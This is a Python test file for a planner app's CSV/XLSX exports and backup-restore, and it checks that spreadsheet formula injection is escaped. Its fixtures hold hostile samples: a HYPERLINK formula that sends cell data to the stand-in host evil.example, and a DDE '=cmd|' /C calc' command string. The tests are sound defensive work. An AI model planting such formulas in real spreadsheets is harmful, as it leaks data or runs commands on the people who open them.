"""Data out and back: CSV/XLSX round trips with formulas made inert, backup → restore, refusals, all or nothing."""

from __future__ import annotations

import csv
import io
import re
from datetime import date
from pathlib import Path

import orjson
import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from cmplanner import checklists, demo, exports, reviews
from cmplanner.models import Platform, Review, Strategy, WeekMetrics
from cmplanner.store import REVIEWS, TICKS, Store, StoreError, backup

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


@pytest.fixture
def store(data_dir: Path) -> Store:
    return Store(data_dir)


@pytest.fixture
def workspace(store: Store) -> Store:
    """The demo workspace plus a review and a checklist tick."""
    bakery, _ = demo.write_demo(store, date(2026, 11, 22))
    review = Review(kind="month", period="2026-10", decisions="Meer reels")
    store.update(bakery.id, lambda edit: reviews.save(edit, review))
    store.update(bakery.id, lambda edit: checklists.set_tick(edit, "day.messages", "2026-11-20", 1))
    return store


def sample_rows() -> list[WeekMetrics]:
    return [
        WeekMetrics(platform=Platform.INSTAGRAM, week="2026-W46", followers=1200, posts=3, source=EVIL),
        WeekMetrics(
            platform=Platform.FACEBOOK,
            week="2026-W46",
            impressions=900,
            messages_received=4,
            messages_answered=3,
            response_time_hours=2.5,
            source="-1+1",
        ),
        WeekMetrics(platform=Platform.INSTAGRAM, week="2026-W47", followers=1210, source="'quoted"),
    ]


def strategy_named(name: str) -> Strategy:
    return Strategy(name=name)


# ---------------------------------------------------------------------------------------------- CSV and XLSX


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx", "'=x", "'plain"])
def test_formula_starts_are_escaped(text: str) -> None:
    assert exports.escape_text(text) == "'" + text


@given(st.text(max_size=30))
def test_escaping_is_lossless_and_never_starts_a_formula(text: str) -> None:
    escaped = exports.escape_text(text)
    assert not escaped.startswith(exports.FORMULA_START)
    assert escaped in (text, "'" + text)  # the text as typed, at most behind one apostrophe


def test_csv_round_trip_with_formulas_inert() -> None:
    rows = sample_rows()
    data = exports.metrics_csv(strategy_named("=cmd|' /C calc'!A0"), rows)
    assert data.startswith(b"\xef\xbb\xbf")  # BOM: spreadsheets read it as UTF-8
    table = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    assert tuple(table[0]) == exports.COLUMNS and len(table) == 4
    cells = [cell for line in table[1:] for cell in line]
    assert not any(cell.startswith(exports.FORMULA_START) for cell in cells)
    facebook, instagram, later = (dict(zip(table[0], line, strict=True)) for line in table[1:])
    assert [facebook["source"], instagram["source"], later["source"]] == ["'-1+1", "'" + EVIL, "''quoted"]
    assert facebook["strategy"] == "'=cmd|' /C calc'!A0"
    assert (facebook["week_start"], facebook["month"], facebook["quarter"]) == (
        "2026-11-09",
        "2026-11",
        "2026-Q4",
    )
    assert facebook["followers"] == "" and facebook["response_time_hours"] == "2.5"
    assert [int(line["followers"] or 0) for line in (facebook, instagram, later)] == [0, 1200, 1210]


def test_xlsx_round_trip_text_cells_are_strings_never_formulas() -> None:
    rows = sample_rows()
    data = exports.metrics_xlsx(strategy_named("@evil"), rows)
    sheet = load_workbook(io.BytesIO(data)).active
    assert sheet is not None
    header = [c.value for c in sheet[1]]
    assert tuple(header) == exports.COLUMNS
    cells = [c for line in sheet.iter_rows(min_row=2) for c in line if c.value is not None]
    assert not [c for c in cells if c.data_type == "f"]
    sources = {c.value for c in cells if header[c.column - 1] == "source"}
    assert EVIL in sources  # exactly as typed, as text
    assert all(c.data_type == "s" and c.quotePrefix for c in cells if isinstance(c.value, str))
    followers = [c.value for c in cells if header[c.column - 1] == "followers"]
    assert followers == [1200, 1210] and all(isinstance(v, int) for v in followers)


# ---------------------------------------------------------------------------------------------- backup and restore


def files(store: Store) -> dict[str, bytes]:
    return {p.name: p.read_bytes() for p in sorted(store.strategies.glob("*.json"))}


def test_backup_restore_round_trip_keeps_a_copy_of_what_it_replaces(workspace: Store) -> None:
    before = files(workspace)
    saved = backup.export(workspace).payload()
    bakery, consultancy = sorted(workspace.list()[0], key=lambda s: s.name)
    workspace.rename(bakery.id, "Renamed")
    later = Review(kind="month", period="2026-11", went_well="later")
    workspace.update(bakery.id, lambda edit: reviews.save(edit, later))
    changed = workspace.path(bakery.id).read_bytes()
    workspace.delete(consultancy.id)
    extra = workspace.create("Made after the backup")

    result = backup.restore(workspace, saved)

    assert result.names == ["Bakkerij De Korenschoof", "Van Dijk Advies"]
    assert (result.replaced, result.added) == (1, 1)
    after = files(workspace)
    for name, raw in before.items():  # every table, reviews and ticks included; a new version of the file
        assert without_meta(orjson.loads(after[name])) == without_meta(orjson.loads(raw))
    assert workspace.get(extra.id).name == "Made after the backup"  # left as it was
    (copy,) = result.copies
    assert copy.parent == workspace.backups / bakery.id and copy.name.startswith("before-restore-")
    assert copy.read_bytes() == changed
    assert workspace.rows(bakery.id, REVIEWS)[0].decisions == "Meer reels"
    assert workspace.weeks(bakery.id) and checklists.ticks(
        workspace.rows(bakery.id, TICKS), date(2026, 11, 20)
    )


def without_meta(tables: dict) -> dict:
    return {name: docs for name, docs in tables.items() if name != "_meta"}


def broken_backups(good: bytes) -> dict[str, bytes]:
    document = orjson.loads(good)
    bad_metric = orjson.loads(good)
    bad_metric["strategies"][0]["metrics"]["1"]["followers"] = -3
    bad_review = orjson.loads(good)
    bad_review["strategies"][0]["reviews"] = {"1": {"kind": "month", "period": "Q4"}}
    newer = {**document, "schema": 99}
    twice = {**document, "strategies": [document["strategies"][0]] * 2}
    no_strategy = orjson.loads(good)
    del no_strategy["strategies"][1]["strategy"]
    return {
        "The file is empty": b"",
        "not valid JSON": good[: len(good) // 2],
        "has no list of strategies": b'{"hello": 1}',
        "newer cmplanner": orjson.dumps(newer),
        "holds no strategies": orjson.dumps({**document, "strategies": []}),
        "Strategy 1 in the backup (Bakkerij De Korenschoof) is not valid: table metrics, record 1: followers": orjson.dumps(
            bad_metric
        ),
        "Strategy 1 in the backup (Bakkerij De Korenschoof) is not valid: table reviews, record 1: period: expected a month": orjson.dumps(
            bad_review
        ),
        "the file holds no strategy": orjson.dumps(no_strategy),
        "twice": orjson.dumps(twice),
    }


def test_restore_refuses_a_file_it_cannot_read_and_leaves_the_data_as_it_was(workspace: Store) -> None:
    good = backup.export(workspace).payload()
    bakery = workspace.list()[0][0]
    workspace.rename(bakery.id, "Changed since")
    before = files(workspace)
    for message, data in broken_backups(good).items():
        with pytest.raises(StoreError, match=re.escape(message)):
            backup.restore(workspace, data)
    assert files(workspace) == before
    assert not list(workspace.backups.glob("*/before-restore-*"))


def test_a_damaged_file_can_be_restored(workspace: Store) -> None:
    saved = backup.export(workspace).payload()
    bakery = workspace.list()[0][0]
    path = workspace.path(bakery.id)
    path.write_bytes(path.read_bytes()[:50])
    result = backup.restore(workspace, saved)
    assert result.replaced == 2 and workspace.get(bakery.id).name == bakery.name
